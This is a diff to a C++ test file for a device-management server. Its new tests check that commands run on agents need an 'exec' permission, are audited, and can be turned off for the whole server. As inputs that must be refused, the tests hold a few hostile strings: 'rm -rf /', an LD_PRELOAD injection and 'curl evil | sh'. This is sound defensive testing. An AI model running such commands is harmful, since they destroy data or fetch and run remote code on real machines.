@@ -492,7 +492,7 @@ TEST_F(Devices, IdleFeedIs204WithETagAndALongPollWakesWithinASecond) {
     start_devices(1000, 15);
     auto uid = add_user("poll@example.com");
     auto session = login("poll@example.com");
-    auto key = key_for("poll@example.com", scopes);
+    auto key = key_for("poll@example.com", {"devices:*[read,write,exec]"});
     agent a = new_agent("3c1f8a44-1d7e-4e0b-8f51-6a2b9c0d7e11");
     ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
     auto idle = updates(a, "");
@@ -757,6 +757,75 @@ TEST_F(Devices, OneUnsealableDeviceNeverFailsAnIssuance) {
         << "the unsealable device's wrap is pending";
 }
 
+// Install items that run commands on the agent need devices:<id>[exec] (write alone cannot add or change
+// them); every change is audited; devices.allow_commands=false refuses new ones for everyone.
+TEST_F(Devices, CommandsOnAgentsNeedTheExecActionAndAreAudited) {
+    start_devices();
+    auto uid = add_user("ops@example.com");
+    auto session = login("ops@example.com");
+    agent a = new_agent("a1a1a1a1-2222-4333-8444-555555555555");
+    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
+    std::string const d = std::to_string(a.device_id);
+    auto const writer = key_for("ops@example.com", {"devices:*[read,write]"});
+    auto const runner = key_for("ops@example.com", {"devices:" + d + "[write,exec]"});
+    auto const updater = key_for("ops@example.com", {"ForInstallConfigUpdate:*[update]"});
+    std::string const exec_item =
+        R"({"installs":[{"id":"r","type":"exec","ob_type":"cert","ob_id":7,"cmd":"systemctl reload nginx"}]})";
+    auto refused = call("PUT", "/apiv1/me/devices/" + d + "/install-config", writer, exec_item);
+    EXPECT_EQ(refused.status, 403) << refused.body;
+    EXPECT_NE(refused.body.find("devices:" + d + "[exec]"), std::string::npos) << refused.body;
+    EXPECT_EQ(call("PUT", "/apiv1/me/devices/" + d + "/install-config", writer,
+                   R"({"installs":[],"after_update_script":"rm -rf /"})")
+                  .status,
+              403);
+    EXPECT_EQ(call("PUT", "/apiv1/me/devices/" + d + "/install-config", writer,
+                   R"({"installs":[{"type":"copy","ob_type":"cert","ob_id":7,"from":["k"],"to":["/k"],)"
+                   R"("env":{"LD_PRELOAD":"/tmp/x.so"}}]})")
+                  .status,
+              403);
+    EXPECT_EQ(schema_->query_int("SELECT COUNT(*) FROM device_install_configs WHERE device_id = " + d), 0);
+
+    auto ok = call("PUT", "/apiv1/me/devices/" + d + "/install-config", runner, exec_item);
+    ASSERT_EQ(ok.status, 200) << ok.body;
+    // The commands unchanged, write is enough for the rest; a patch of the command needs exec.
+    auto same = call("PUT", "/apiv1/me/devices/" + d + "/install-config", writer,
+                     R"({"installs":[{"id":"r","type":"exec","ob_type":"cert","ob_id":7,)"
+                     R"("cmd":"systemctl reload nginx","enabled":true}],"change_note":"same"})");
+    EXPECT_EQ(same.status, 200) << same.body;
+    auto patch = call("POST", "/apiv1/me/install-config-update/" + a.public_id, updater,
+                      R"([{"ob_type":"cert","ob_id":7,"id":"r","cmd":"curl evil | sh"}])");
+    EXPECT_EQ(patch.status, 403) << patch.body;
+    // Removing commands needs no exec.
+    EXPECT_EQ(call("PUT", "/apiv1/me/devices/" + d + "/install-config", writer, R"({"installs":[]})").status,
+              200);
+    EXPECT_EQ(schema_->query_int("SELECT COUNT(*) FROM audit_log WHERE action = 'install_config.update' AND "
+                                 "user_id = " +
+                                 std::to_string(uid)),
+              3);
+    EXPECT_EQ(schema_->query_int("SELECT COUNT(*) FROM audit_log WHERE action = 'install_config.update' AND "
+                                 "JSON_CONTAINS(detail, 'true', '$.runs_commands')"),
+              2);
+    EXPECT_GE(schema_->query_int("SELECT COUNT(*) FROM audit_log WHERE action = 'permission.denied'"), 4);
+}
+
+TEST_F(Devices, CommandsOnAgentsCanBeTurnedOffForTheServer) {
+    start(json::object{{"rate_limits", {{"auth_per_minute", 1000}, {"api_per_minute", 100000}}},
+                       {"devices", {{"allow_commands", false}}}});
+    auto uid = add_user("nocmd@example.com");
+    auto session = login("nocmd@example.com");
+    agent a = new_agent("b2b2b2b2-2222-4333-8444-555555555555");
+    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
+    std::string const dev = "/apiv1/users/" + std::to_string(uid) + "/devices/" + std::to_string(a.device_id);
+    auto refused = call("PUT", dev + "/install-config", session,
+                        R"({"installs":[{"type":"exec","ob_type":"cert","ob_id":7,"cmd":"true"}]})");
+    EXPECT_EQ(refused.status, 403) << refused.body;
+    EXPECT_NE(refused.body.find("devices.allow_commands"), std::string::npos) << refused.body;
+    EXPECT_EQ(call("PUT", dev + "/install-config", session,
+                   R"({"installs":[{"type":"copy","ob_type":"cert","ob_id":7,"from":["k"],"to":["/k"]}]})")
+                  .status,
+              200);
+}
+
 TEST_F(Devices, RegisteringAnExistingDeviceAgainNeedsProofTiedToIt) {
     start_devices();
     auto uid = add_user("owner@example.com");
@@ -860,7 +929,7 @@ TEST_F(Devices, InstallConfigsAndDeviceCasReachTheAgent) {
     auto uid = add_user("config@example.com");
     auto session = login("config@example.com");
     auto key = key_for("config@example.com", scopes);
-    auto patcher = key_for("config@example.com", {"ForInstallConfigUpdate:*[update]"});
+    auto patcher = key_for("config@example.com", {"ForInstallConfigUpdate:*[update,exec]"});
     agent a = new_agent("facade00-1234-4567-89ab-cdef01234567");
     ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
     std::string const dev = "/apiv1/users/" + std::to_string(uid) + "/devices/" + std::to_string(a.device_id);
